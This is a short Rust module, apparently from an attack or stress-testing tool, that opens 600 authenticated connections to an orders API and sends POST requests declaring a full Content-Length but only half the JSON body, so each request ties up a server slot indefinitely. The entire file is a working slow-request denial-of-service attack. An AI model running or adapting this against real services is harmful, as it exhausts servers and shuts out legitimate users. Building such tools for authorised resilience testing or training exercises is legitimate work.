//! Requests with a session whose bodies never end. Each occupies one of the server's slots for requests in flight.

use std::{sync::Arc, time::Duration};

use serde_json::json;

use super::Attacker;
use crate::wire::Connection;

const REQUESTS: u32 = 600;
const REPEAT_DELAY: Duration = Duration::from_millis(500);

pub async fn hold(attacker: Arc<Attacker>) {
    attacker
        .repeat(REQUESTS, REPEAT_DELAY, |attacker, _| async move {
            let target = &attacker.entrances.order;
            let Ok(mut connection) = Connection::open(&attacker, target).await else { return };
            let account = &attacker.account;
            let body = json!({ "user_uuid": account.user, "part_uuids": [account.part] }).to_string();
            let (length, half) = (body.len(), &body[..body.len() / 2]);
            let request = format!(
                "POST /api/v1/orders HTTP/1.1\r\nHost: {target}\r\nX-Session-Uuid: {}\r\n\
                 Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{half}",
                account.session
            );
            attacker.has_sent(1);
            if connection.write(request.as_bytes()).await.is_ok() {
                connection.wait_for_close().await;
            }
        })
        .await;
}
